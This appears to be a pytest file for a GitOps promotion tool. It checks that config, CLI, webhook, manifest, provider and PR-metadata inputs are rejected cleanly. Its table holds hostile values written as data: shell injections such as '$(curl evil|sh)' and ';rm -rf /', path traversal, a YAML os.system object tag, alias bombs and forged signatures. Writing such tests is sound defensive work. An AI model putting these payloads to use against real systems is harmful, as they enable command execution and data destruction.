"""One table of hostile inputs, one per row, each answered by a clear error or a visible ignore.

Every row says what the user must be told (a regex on the error text). The test around it proves the
rest of the contract: the error is of the documented kind (never an unhandled exception), the CLI exits
1 or 2 with exactly one line on stderr and no traceback, the webhook answers a 4xx and emits nothing,
the token never shows up in a message, and nothing under the row's directory (files, `.git` refs, the
clone cache) changed.
"""

from __future__ import annotations

import hashlib
import hmac
import io
import json
import os
import re
import shutil
import subprocess
import threading
import warnings
from collections.abc import Callable, Iterator
from contextlib import contextmanager, redirect_stderr, redirect_stdout
from dataclasses import dataclass
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest
from prefect.exceptions import ParameterTypeError
from pydantic import SecretStr
from starlette.exceptions import StarletteDeprecationWarning

from deployments.webhook import RegistryEvent, WebhookSettings, create_app
from flows.promotion import promote_release
from promoter.cli import main
from promoter.config import parse_config
from promoter.errors import (
    ConfigError,
    InvalidInputError,
    ManifestError,
    PromoterError,
    ProviderAuthError,
    ProviderError,
)
from promoter.health import StatusMatcher, current_verdict
from promoter.manifests import rewrite_environment, rewrite_text
from promoter.promotion import Target
from promoter.providers import GitProvider, PullRequest, parse_remote, provider_for
from promoter.pull_request import parse_body
from promoter.release import Release
from sandbox.sample import write_gitops_tree
from tests.deployments import captured

with warnings.catch_warnings():
    warnings.simplefilter("ignore", StarletteDeprecationWarning)
    from starlette.testclient import TestClient

TOKEN = "tok-HOSTILE-7f3a9c1e5b"
SECRET = "generic-hmac-secret-hostile-0123"
PATH_TOKEN = "path-token-hostile-0123456789"
MIB = 1024 * 1024
MARK = ' # {"$imagepolicy": "apps:podinfo"}'
TAG_MARK = ' # {"$imagepolicy": "apps:podinfo:tag"}'
GOOD_CONFIG = "environments:\n  - name: dev\n"
LAUGHS = "".join(f"l{i}: &l{i} [{', '.join([f'*l{i - 1}' if i else 'lol'] * 9)}]\n" for i in range(9))


# -- the world each row runs in --------------------------------------------------------------------


class ForgeStub:
    """A loopback HTTP server that answers every request with whatever the current row set."""

    def __init__(self) -> None:
        self.answer: tuple[int, bytes, str] = (200, b"{}", "application/json")
        stub = self

        class Handler(BaseHTTPRequestHandler):
            def _reply(self) -> None:
                length = int(self.headers.get("Content-Length") or 0)
                self.rfile.read(length)
                status, body, content_type = stub.answer
                self.send_response(status)
                self.send_header("Content-Type", content_type)
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            do_GET = do_POST = do_PUT = do_PATCH = _reply

            def log_message(self, format: str, *args: Any) -> None:
                return

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_port}/acme/gitops.git"
        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)
        self.thread.start()

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()
        self.thread.join(timeout=10)


@dataclass
class Env:
    root: Path  # everything a row may touch lives below; it must be byte-identical afterwards
    gitops: Path  # a checkout with gitops-promotion.yaml and apps/{dev,qa,prod}/podinfo.yaml
    ftp_checkout: Path  # the same, with an origin URL no forge serves
    cache: Path
    outside: Path
    forge: ForgeStub

    def argv(self, args: tuple[str, ...]) -> list[str]:
        swap = {"@SRC@": str(self.gitops), "@FTP@": str(self.ftp_checkout), "@CACHE@": str(self.cache)}
        return [swap.get(arg, arg) for arg in args]


def _checkout(path: Path, origin: str) -> Path:
    write_gitops_tree(path, {"apps": ["podinfo"]})
    for args in (
        ["init", "--quiet", "--template=", "--initial-branch=main"],
        ["remote", "add", "origin", origin],
    ):
        subprocess.run(["git", *args], cwd=path, check=True, capture_output=True)
    return path


@pytest.fixture(scope="module")
def forge() -> Iterator[ForgeStub]:
    stub = ForgeStub()
    yield stub
    stub.close()


@pytest.fixture(scope="module")
def checkouts(forge: ForgeStub, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Made once, copied for each row: two git checkouts cost more than the rows themselves."""
    root = tmp_path_factory.mktemp("checkouts")
    _checkout(root / "gitops", forge.url)
    _checkout(root / "ftp", "ftp://forge.example/acme/gitops.git")
    return root


@pytest.fixture
def env(tmp_path: Path, forge: ForgeStub, checkouts: Path, monkeypatch: pytest.MonkeyPatch) -> Env:
    monkeypatch.setenv("PROMOTER_TOKEN", TOKEN)
    monkeypatch.setenv("PROMOTER_CACHE_DIR", str(tmp_path / "cache"))
    for name in (
        "PROMOTER_GITOPS_URL",
        "PROMOTER_PROVIDER",
        "PROMOTER_MERGE_METHOD",
        "PROMOTER_POLL_INTERVAL",
        "PROMOTER_STATUS_PATTERN",
    ):
        monkeypatch.delenv(name, raising=False)
    for name in ("GITHUB_HEAD_REF", "SYSTEM_PULLREQUEST_SOURCEBRANCH"):
        monkeypatch.delenv(name, raising=False)
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "stolen.yaml").write_text("image: ghcr.io/acme/podinfo:1" + MARK + "\n")
    return Env(
        root=tmp_path,
        gitops=Path(shutil.copytree(checkouts / "gitops", tmp_path / "gitops", symlinks=True)),
        ftp_checkout=Path(shutil.copytree(checkouts / "ftp", tmp_path / "ftp", symlinks=True)),
        cache=tmp_path / "cache",
        outside=outside,
        forge=forge,
    )


def tree(root: Path) -> dict[str, bytes | str]:
    """Every directory, file (with its bytes) and symlink (with its target) below `root`, `.git` included."""
    found: dict[str, bytes | str] = {}
    for path in sorted(root.rglob("*")):
        name = path.relative_to(root).as_posix()
        if path.is_symlink():
            found[name] = f"-> {os.readlink(path)}"
        elif path.is_dir():
            found[name] = "dir"
        else:
            found[name] = path.read_bytes()
    return found


# -- how a row is run and what it must show ---------------------------------------------------------

Probe = Callable[[Env], str]


@dataclass(frozen=True)
class Row:
    probe: Probe
    says: str  # a regex the text shown to the user must match
    setup: Callable[[Env], None] | None = None


def raises(kind: type[BaseException] | tuple[type[BaseException], ...], call: Callable[[], object]) -> str:
    """The message of the expected error; any other exception escapes and fails the row."""
    try:
        call()
    except kind as error:
        return str(error)
    raise AssertionError(f"no {kind} was raised")


def cli(code: int, *args: str) -> Probe:
    def probe(env: Env) -> str:
        out, err = io.StringIO(), io.StringIO()
        with redirect_stdout(out), redirect_stderr(err):
            returned = main(env.argv(args))
        lines = err.getvalue().splitlines()
        assert returned == code, (returned, err.getvalue())
        assert len(lines) == 1 and "Traceback" not in err.getvalue(), err.getvalue()
        assert out.getvalue() == ""
        return lines[0]

    return probe


def config(text: str) -> Probe:
    return lambda env: raises(ConfigError, lambda: parse_config(text))


def manifest(text: str, tag: str = "2.0.0") -> Probe:
    return lambda env: raises(ManifestError, lambda: rewrite_text(text, "apps", "podinfo", tag))


def bump_env(env_name: str = "dev", tag: str = "2.0.0", kind: type[PromoterError] = ManifestError) -> Probe:
    return lambda env: raises(kind, lambda: rewrite_environment(env.gitops, "apps", "podinfo", env_name, tag))


def metadata(body: str | None) -> Probe:
    return lambda env: raises(InvalidInputError, lambda: parse_body(body))


@contextmanager
def environ(**values: str) -> Iterator[None]:
    saved = {name: os.environ.get(name) for name in values}
    os.environ.update(values)
    try:
        yield
    finally:
        for name, value in saved.items():
            if value is None:
                os.environ.pop(name, None)
            else:
                os.environ[name] = value


def target(url: str | None, provider: str | None = None, **variables: str) -> Probe:
    def probe(env: Env) -> str:
        with environ(**variables):
            return raises(PromoterError, lambda: Target.of({"gitops_url": url, "provider": provider}))

    return probe


def release(**fields: Any) -> Probe:
    # As the flow builds it from its parameters: one line, no pydantic report.
    return lambda env: raises(InvalidInputError, lambda: Release.of(**fields))


def flow_parameters(parameters: dict[str, Any]) -> Probe:
    return lambda env: raises(ParameterTypeError, lambda: promote_release.validate_parameters(parameters))


OPEN_PR = PullRequest(1, "t", "b", "promote/apps-podinfo", "main", "a" * 40, "open", "u", node_id="PR_1")


def provider(
    status: int,
    body: bytes,
    call: Callable[[GitProvider], object],
    kind: type[PromoterError] = ProviderError,
    content_type: str = "application/json",
) -> Probe:
    def probe(env: Env) -> str:
        env.forge.answer = (status, body, content_type)
        forge = provider_for(parse_remote(env.forge.url, "github"), TOKEN, attempts=2, sleep=lambda _: None)
        try:
            return raises(kind, lambda: call(forge))
        finally:
            forge.close()

    return probe


def statuses_ignored(body: bytes) -> Probe:
    """Statuses that cannot be Flux's are passed over: the environment stays pending, nothing raises."""

    def probe(env: Env) -> str:
        env.forge.answer = (200, body, "application/json")
        forge = provider_for(parse_remote(env.forge.url, "github"), TOKEN, attempts=1)
        try:
            verdict = current_verdict(["a" * 40], forge.commit_statuses, StatusMatcher("apps-dev"))
        finally:
            forge.close()
        return f"ignored: apps-dev is {verdict.outcome}"

    return probe


class Recorder:
    def __init__(self) -> None:
        self.events: list[dict[str, str]] = []

    def __call__(self, event: RegistryEvent) -> None:
        self.events.append(event.resource)


def signed(body: bytes, secret: str = SECRET) -> dict[str, str]:
    return {"X-Signature": "sha256=" + hmac.new(secret.encode(), body, hashlib.sha256).hexdigest()}


def hook(
    path: str,
    body: bytes,
    headers: dict[str, str] | None = None,
    *,
    status: int,
    deliveries: int = 1,
    emitted: int = 0,
) -> Probe:
    def probe(env: Env) -> str:
        settings = WebhookSettings(
            generic_secret=SecretStr(SECRET),
            nexus_secret=SecretStr(SECRET),
            path_token=SecretStr(PATH_TOKEN),
            nexus_registries={"docker-hosted": "nexus.example.com:8082"},
        )
        recorder = Recorder()
        with TestClient(create_app(settings, recorder)) as client:
            for _ in range(deliveries):
                response = client.post(path, content=body, headers=headers or {})
            counts = client.get("/stats").json()
        assert response.status_code == status, response.text
        assert len(recorder.events) == emitted, recorder.events
        assert "Traceback" not in response.text and len(response.text) < 1000
        data = response.json()
        if status == 202:
            assert counts["duplicate"] == deliveries - 1
            return "; ".join(data["ignored"])
        assert 400 <= status < 500
        return str(data["error"])

    return probe


def symlink_escape(env: Env) -> None:
    (env.gitops / "apps" / "dev" / "stolen.yaml").symlink_to(env.outside / "stolen.yaml")


def huge_manifest(env: Env) -> None:
    (env.gitops / "apps" / "dev" / "big.yaml").write_text(
        "image: ghcr.io/acme/podinfo:1" + MARK + "\n" + "# padding\n" * (2 * MIB // 10)
    )


def not_utf8(env: Env) -> None:
    path = env.gitops / "apps" / "dev" / "podinfo.yaml"
    path.write_bytes(path.read_bytes().replace(b"name: podinfo", b"name: pod\xff\xfeinfo"))


def marker_on_mapping(env: Env) -> None:
    (env.gitops / "apps" / "dev" / "podinfo.yaml").write_text(
        "spec:" + MARK + "\n  image: ghcr.io/acme/podinfo:1\n"
    )


def generic(data: object) -> bytes:
    return json.dumps(data).encode()


GOOD_PUSH = generic({"repository": "ghcr.io/acme/podinfo", "tag": "1.2.3"})
NEXUS_UNMAPPED = json.dumps({**captured.NEXUS_DOCKER_COMPONENT, "repositoryName": "docker-other"}).encode()
SHELL_PUSH = generic({"repository": "ghcr.io/acme/podinfo", "tag": "$(id)"})
TAG_RULE = r"invalid image tag .*OCI tag is 1-128 characters"
BUMP = ("bump", "--sourcedir", "@SRC@", "--group", "apps", "--app", "podinfo", "--env", "dev")
NEW = ("new", "--sourcedir", "@SRC@", "--cache-dir", "@CACHE@", "--provider", "github")

ROWS: dict[str, Row] = {
    # config: gitops-promotion.yaml as a hostile or careless author writes it
    "config-malformed-yaml": Row(
        config("environments: [\n  - name: dev\n"), r"gitops-promotion.yaml:\d+: .*YAML"
    ),
    "config-environments-not-a-list": Row(
        config("environments: dev\n"), r"environments is 'dev'; use a list"
    ),
    "config-auto-not-a-bool": Row(
        config("environments:\n  - name: dev\n    auto: sometimes\n"),
        r":3: environments\[0\]\.auto is 'sometimes'; use true or false",
    ),
    "config-unknown-key": Row(config(GOOD_CONFIG + "enviroment: x\n"), r":3: unknown key 'enviroment'"),
    "config-billion-laughs": Row(config(LAUGHS + GOOD_CONFIG), r"aliases \(\*name\) are not supported"),
    "config-2-mib": Row(config(GOOD_CONFIG + "# pad\n" * (2 * MIB // 6)), r"larger than 1024 KiB"),
    "config-control-character": Row(config("environments:\n  - name: de\x07v\n"), r"invalid YAML"),
    "config-nul-byte": Row(config(GOOD_CONFIG + "\x00"), r"invalid YAML"),
    "config-nested-800-deep": Row(config("x: " + "[" * 800 + "]" * 800), r"nested too deeply"),
    "config-python-object-tag": Row(
        config(GOOD_CONFIG + "x: !!python/object/apply:os.system [id]\n"),
        r":3: could not determine a constructor",
    ),
    "config-value-breaks-its-tag": Row(
        config(GOOD_CONFIG + "status_timeout_minutes: !!int five\n"), r"does not fit its YAML tag"
    ),
    "config-infinite-timeout": Row(config(GOOD_CONFIG + "status_timeout_minutes: .inf\n"), r"finite"),
    "config-timeout-overflows": Row(
        config(GOOD_CONFIG + "status_timeout_minutes: 9" + "9" * 40 + "\n"), r"too large"
    ),
    "config-duplicate-environments-key": Row(
        config(GOOD_CONFIG + "environments:\n  - name: prod\n"),
        r":3: key 'environments' is repeated \(first on line 1\)",
    ),
    "config-environment-escapes": Row(
        config("environments:\n  - name: ../prod\n"), r"invalid environment name '../prod'"
    ),
    "config-root-is-a-list": Row(config("- environments\n"), r"expected one YAML mapping"),
    # CLI: what a CI variable or a person can put on a command line
    "cli-bump-tag-command-substitution": Row(
        cli(2, *BUMP, "--tag", "$(id)"), r"^promoter bump: error: " + TAG_RULE
    ),
    "cli-bump-tag-rm-rf": Row(cli(2, *BUMP, "--tag", ";rm -rf /"), TAG_RULE),
    "cli-bump-tag-backticks": Row(cli(2, *BUMP, "--tag", "`id`"), TAG_RULE),
    "cli-bump-tag-newline": Row(cli(2, *BUMP, "--tag", "1.0\nINJECTED"), r"'1.0\\nINJECTED'"),
    "cli-bump-tag-nul": Row(cli(2, *BUMP, "--tag", "1.0\x00x"), r"'1.0\\x00x'"),
    "cli-bump-group-escapes": Row(
        cli(
            2,
            "bump",
            "--sourcedir",
            "@SRC@",
            "--group",
            "../..",
            "--app",
            "podinfo",
            "--env",
            "dev",
            "--tag",
            "1",
        ),
        r"invalid group name '../..'",
    ),
    "cli-bump-app-escapes": Row(
        cli(
            2,
            "bump",
            "--sourcedir",
            "@SRC@",
            "--group",
            "apps",
            "--app",
            "x/../../etc",
            "--env",
            "dev",
            "--tag",
            "1",
        ),
        r"invalid app name 'x/../../etc'",
    ),
    "cli-bump-env-absolute": Row(
        cli(
            2,
            "bump",
            "--sourcedir",
            "@SRC@",
            "--group",
            "apps",
            "--app",
            "podinfo",
            "--env",
            "/etc",
            "--tag",
            "1",
        ),
        r"unknown environment '/etc'",
    ),
    "cli-bump-digest-not-sha256": Row(
        cli(2, *BUMP, "--tag", "1", "--digest", "md5:$(id)"), r"invalid image digest"
    ),
    "cli-new-tag-shell": Row(
        cli(1, *NEW, "--group", "apps", "--app", "podinfo", "--tag", "$(curl evil|sh)"),
        r"^Application failed with error: " + TAG_RULE,
    ),
    "cli-new-group-escapes": Row(
        cli(1, *NEW, "--group", "../../..", "--app", "podinfo", "--tag", "1"), r"invalid group name"
    ),
    "cli-new-unsupported-remote": Row(
        cli(
            1,
            "new",
            "--sourcedir",
            "@FTP@",
            "--cache-dir",
            "@CACHE@",
            "--group",
            "apps",
            "--app",
            "podinfo",
            "--tag",
            "1",
        ),
        r"unsupported remote URL scheme 'ftp'",
    ),
    "cli-status-branch-shell": Row(
        cli(
            1,
            "status",
            "--sourcedir",
            "@SRC@",
            "--cache-dir",
            "@CACHE@",
            "--provider",
            "github",
            "--branch",
            "promote/$(id)",
        ),
        r"invalid branch name 'promote/\$\(id\)'",
    ),
    "cli-approve-app-shell": Row(cli(2, "approve", "--app", "apps/pod;rm -rf ~"), r"invalid app name"),
    "cli-approve-app-without-group": Row(cli(2, "approve", "--app", "podinfo"), r"--app takes GROUP/APP"),
    "cli-approve-tag-backticks": Row(
        cli(2, "approve", "--app", "apps/podinfo", "--tag", "`reboot`"), TAG_RULE
    ),
    "cli-break-glass-without-comment": Row(
        cli(2, "approve", "--app", "apps/podinfo", "--break-glass"), r"--break-glass needs --comment"
    ),
    "cli-break-glass-reject": Row(
        cli(2, "approve", "--app", "apps/podinfo", "--break-glass", "--reject", "--comment", "x"),
        r"--break-glass lets a release through; it cannot --reject",
    ),
    "cli-freeze-env-path": Row(
        cli(2, "freeze", "--env", "../prod", "--reason", "x"), r"invalid environment name"
    ),
    "cli-freeze-blank-reason": Row(cli(2, "freeze", "--reason", " \n "), r"--reason must say something"),
    "cli-freeze-until-garbage": Row(
        cli(2, "freeze", "--reason", "x", "--until", "next week"), r"--until 'next week' is neither a time"
    ),
    "cli-thaw-env-shell": Row(cli(2, "thaw", "--env", "prod;reboot"), r"invalid environment name"),
    # flow parameters: a run started by hand in the UI, or by an automation fed a bad event
    "flow-parameters-wrong-types": Row(
        flow_parameters({"image": 5, "tag": ["x"]}), r"image: Input should be a valid string"
    ),
    "flow-parameters-timeout-not-a-number": Row(
        flow_parameters({"image": "ghcr.io/a/b", "tag": "1", "approval_timeout_hours": "soon"}),
        r"approval_timeout_hours: Input should be a valid number",
    ),
    "flow-release-tag-shell": Row(release(image="ghcr.io/acme/podinfo", tag="$(id)"), TAG_RULE),
    "flow-release-image-path": Row(release(image="../../etc/passwd", tag="1"), r"invalid image repository"),
    "flow-release-digest-forged": Row(
        release(image="ghcr.io/a/b", tag="1", digest="sha256:xyz"), r"invalid image digest"
    ),
    "flow-target-without-repository": Row(target(None), r"no GitOps repository"),
    "flow-target-unknown-provider": Row(
        target("https://github.com/acme/gitops.git", "gitlab"),
        r"the provider parameter is 'gitlab': use 'github' or 'azdo'",
    ),
    "flow-target-unknown-provider-variable": Row(
        target("https://github.com/acme/gitops.git", PROMOTER_PROVIDER="gitlab"),
        r"PROMOTER_PROVIDER is 'gitlab': use 'github' or 'azdo'",
    ),
    "flow-target-file-url": Row(target("file:///etc/passwd"), r"unsupported remote URL scheme 'file'"),
    "flow-target-poll-interval-nan": Row(
        target("https://github.com/acme/gitops.git", PROMOTER_POLL_INTERVAL="nan"),
        r"PROMOTER_POLL_INTERVAL is 'nan'",
    ),
    "flow-target-merge-method": Row(
        target("https://github.com/acme/gitops.git", PROMOTER_MERGE_METHOD="force"),
        r"PROMOTER_MERGE_METHOD is 'force'",
    ),
    # manifests: setter markers where they cannot be honoured, and files that should not be read
    "manifest-marker-on-mapping": Row(
        manifest("spec:" + MARK + "\n  image: ghcr.io/a/p:1\n"), r":1: .*not a single scalar"
    ),
    "manifest-marker-on-flow-sequence": Row(
        manifest("images: [ghcr.io/a/p:1]" + MARK + "\n"), r"non-scalar value"
    ),
    "manifest-marker-on-block-scalar": Row(
        manifest("image: |" + MARK + "\n  ghcr.io/a/p:1\n"), r"not a single scalar"
    ),
    "manifest-marker-on-explicit-int": Row(manifest("newTag: !!int 5" + TAG_MARK + "\n"), r"YAML tag !!int"),
    "manifest-billion-laughs": Row(manifest(LAUGHS + "image: ghcr.io/a/p:1" + MARK + "\n"), r"aliases"),
    "manifest-nested-800-deep": Row(
        manifest("x: " + "[" * 800 + "]" * 800 + "\nimage: ghcr.io/a/p:1" + MARK + "\n"),
        r"nested too deeply",
    ),
    "manifest-value-not-an-image": Row(
        manifest("image: 'rm -rf /'" + MARK + "\n"), r"not an image reference"
    ),
    "manifest-digest-left-stale": Row(
        manifest("image: ghcr.io/a/p:1@sha256:" + "a" * 64 + MARK + "\n"), r"pins a digest"
    ),
    "manifest-symlink-escapes-repository": Row(
        bump_env(), r"symlink that leaves the repository", symlink_escape
    ),
    "manifest-2-mib-file": Row(bump_env(), r"big.yaml:1: file is larger than 1024 KiB", huge_manifest),
    "manifest-invalid-utf8-only-file": Row(bump_env(), r"no setter marker", not_utf8),
    "manifest-marker-on-mapping-in-tree": Row(
        bump_env(), r"podinfo.yaml:1: .*not a single scalar", marker_on_mapping
    ),
    "manifest-env-escapes": Row(
        bump_env("../../outside", kind=InvalidInputError), r"invalid environment name"
    ),
    # webhook payloads: the internet talking to the receiver
    "webhook-malformed-json": Row(
        hook("/hooks/generic", b"{nope", signed(b"{nope"), status=400), r"not valid JSON"
    ),
    "webhook-wrong-types": Row(
        hook(
            "/hooks/generic",
            generic({"repository": 5, "tag": True}),
            signed(generic({"repository": 5, "tag": True})),
            status=400,
        ),
        r"the body.repository must be a string",
    ),
    "webhook-tag-shell": Row(hook("/hooks/generic", SHELL_PUSH, signed(SHELL_PUSH), status=400), TAG_RULE),
    "webhook-nested-json": Row(
        hook("/hooks/generic", b"[" * 100000, signed(b"[" * 100000), status=400), r"not valid JSON"
    ),
    "webhook-2-mib-body": Row(hook("/hooks/generic", b" " * (2 * MIB), status=413), r"exceeds 1048576 bytes"),
    "webhook-unsigned": Row(hook("/hooks/generic", GOOD_PUSH, status=401), r"^unauthorized$"),
    "webhook-forged-signature": Row(
        hook("/hooks/generic", GOOD_PUSH, signed(GOOD_PUSH, "guessed-secret-0123456789"), status=401),
        r"^unauthorized$",
    ),
    "webhook-signature-of-another-body": Row(
        hook("/hooks/generic", SHELL_PUSH, signed(GOOD_PUSH), status=401), r"^unauthorized$"
    ),
    "webhook-wrong-path-token": Row(
        hook("/hooks/dockerhub/not-the-token", b"{}", status=401), r"^unauthorized$"
    ),
    "webhook-unknown-sender": Row(hook("/hooks/gitlab", GOOD_PUSH, status=404), r"no such sender"),
    "webhook-replayed": Row(
        hook("/hooks/generic", GOOD_PUSH, signed(GOOD_PUSH), status=202, deliveries=3, emitted=1),
        r"ghcr.io/acme/podinfo:1.2.3: duplicate delivery",
    ),
    "webhook-ecr-event-to-the-acr-url": Row(
        hook(f"/hooks/acr/{PATH_TOKEN}", json.dumps(captured.ECR_PUSH).encode(), status=400),
        r"not a notification from Azure Container Registry: .*/hooks/acr",
    ),
    "webhook-cdevent-to-the-quay-url": Row(
        hook(f"/hooks/quay/{PATH_TOKEN}", json.dumps(captured.HARBOR_CDEVENT).encode(), status=400),
        r"not a notification from Quay",
    ),
    "webhook-ecr-documented-short-digest": Row(
        hook(f"/hooks/ecr/{PATH_TOKEN}", json.dumps(captured.ECR_DOCUMENTED_PUSH).encode(), status=400),
        r"invalid image digest .*64 lowercase hex digits",
    ),
    "webhook-gar-without-token": Row(
        hook("/hooks/gar", json.dumps(captured.pubsub_push(captured.GAR_MESSAGE)).encode(), status=401),
        r"^unauthorized$",
    ),
    "webhook-gar-data-not-json": Row(
        hook(
            f"/hooks/gar/{PATH_TOKEN}",
            json.dumps({"message": {"data": "SGVsbG8gQ2xvdWQgUHViL1N1YiE=", "messageId": "1"}}).encode(),
            status=400,
        ),
        r"not valid JSON",
    ),
    "webhook-nexus-unsigned": Row(
        hook("/hooks/nexus", json.dumps(captured.NEXUS_DOCKER_COMPONENT).encode(), status=401),
        r"^unauthorized$",
    ),
    "webhook-nexus-unmapped-repository": Row(
        hook(
            "/hooks/nexus",
            NEXUS_UNMAPPED,
            {
                "X-Nexus-Webhook-Signature": hmac.new(
                    SECRET.encode(), NEXUS_UNMAPPED, hashlib.sha1
                ).hexdigest()
            },
            status=400,
        ),
        r"has no registry host: add docker-other=.* to PROMOTER_WEBHOOK_NEXUS_REGISTRIES",
    ),
    # provider responses: a forge (or something posing as one) answering nonsense
    "provider-malformed-json": Row(
        provider(200, b'{"number": 1,', lambda p: p.get_pull_request(1)),
        r"get pull answered 200 with a body that is not JSON",
    ),
    "provider-html-200": Row(
        provider(
            200,
            b"<html>Sign in</html>",
            lambda p: p.find_pull_request("promote/x", "main"),
            content_type="text/html",
        ),
        r"not JSON; is the URL a forge API",
    ),
    "provider-10-mib-body": Row(
        provider(200, b'"' + b"x" * (10 * MIB) + b'"', lambda p: p.commit_statuses("a" * 40)),
        r"more than 10 MiB",
    ),
    "provider-nested-json": Row(
        provider(200, b"[" * 100000, lambda p: p.commit_statuses("a" * 40)), r"not JSON"
    ),
    "provider-pull-without-number": Row(
        provider(200, b'{"number": "7", "head": "main"}', lambda p: p.get_pull_request(7)),
        r"without a number",
    ),
    "provider-list-is-an-object": Row(
        provider(200, b'{"items": []}', lambda p: p.commit_statuses("a" * 40)), r"did not answer a list"
    ),
    "provider-graphql-errors-as-text": Row(
        provider(200, b'{"errors": "boom"}', lambda p: p.set_auto_merge(OPEN_PR, True, "merge")),
        r"could not enable auto-merge on PR #1: boom",
    ),
    "provider-401-html": Row(
        provider(401, b"<html>no</html>", lambda p: p.get_pull_request(1), ProviderAuthError, "text/html"),
        r"the token was refused",
    ),
    "provider-statuses-missing-fields": Row(
        statuses_ignored(b'[{}, {"state": 5}, {"context": ["x"]}, {"created_at": {"a": 1}}, "text", null]'),
        r"ignored: apps-dev is pending",
    ),
    # PR metadata edited by hand in the forge
    "pr-metadata-deleted": Row(
        metadata("Promote apps/podinfo, edited by someone"), r"has no promotion metadata"
    ),
    "pr-metadata-not-json": Row(metadata("<!-- metadata = {group: apps} -->"), r"not valid JSON"),
    "pr-metadata-a-list": Row(metadata("<!-- metadata = [1, 2] -->"), r"must be a JSON object"),
    "pr-metadata-tag-shell": Row(
        metadata('<!-- metadata = {"group":"apps","app":"podinfo","tag":"$(id)","env":"dev"} -->'),
        r"metadata is wrong: tag: invalid image tag",
    ),
    "pr-metadata-env-escapes": Row(
        metadata('<!-- metadata = {"group":"apps","app":"podinfo","tag":"1","env":"../../x"} -->'),
        r"metadata is wrong: env: invalid environment name",
    ),
    "pr-metadata-wrong-type": Row(
        metadata('<!-- metadata = {"group":["apps"],"app":"podinfo","tag":"1","env":"dev"} -->'),
        r"metadata is wrong: group is a list; use text",
    ),
    "pr-metadata-field-missing": Row(
        metadata('<!-- metadata = {"group":"apps"} -->'), r"metadata is wrong: app is missing; add it"
    ),
    "pr-metadata-nested-deep": Row(
        metadata("<!-- metadata = " + "[" * 100000 + " -->"), r"cannot be read|not valid JSON"
    ),
    "pr-metadata-number-too-long": Row(
        metadata('<!-- metadata = {"group":"apps","sha":' + "9" * 5000 + "} -->"), r"cannot be read"
    ),
}


@pytest.mark.timeout(120)
@pytest.mark.parametrize("row", [pytest.param(row, id=name) for name, row in ROWS.items()])
def test_hostile_input_gets_a_clear_error_and_writes_nothing(row: Row, env: Env) -> None:
    if row.setup is not None:
        row.setup(env)
    before = tree(env.root)
    shown = row.probe(env)
    assert re.search(row.says, shown, re.MULTILINE), shown
    assert TOKEN not in shown and SECRET not in shown and PATH_TOKEN not in shown
    assert tree(env.root) == before


def test_the_table_covers_every_kind_of_input_with_at_least_forty_rows() -> None:
    kinds = {name.split("-")[0] for name in ROWS}
    assert kinds == {"config", "cli", "flow", "manifest", "webhook", "provider", "pr"}
    assert len(ROWS) >= 40
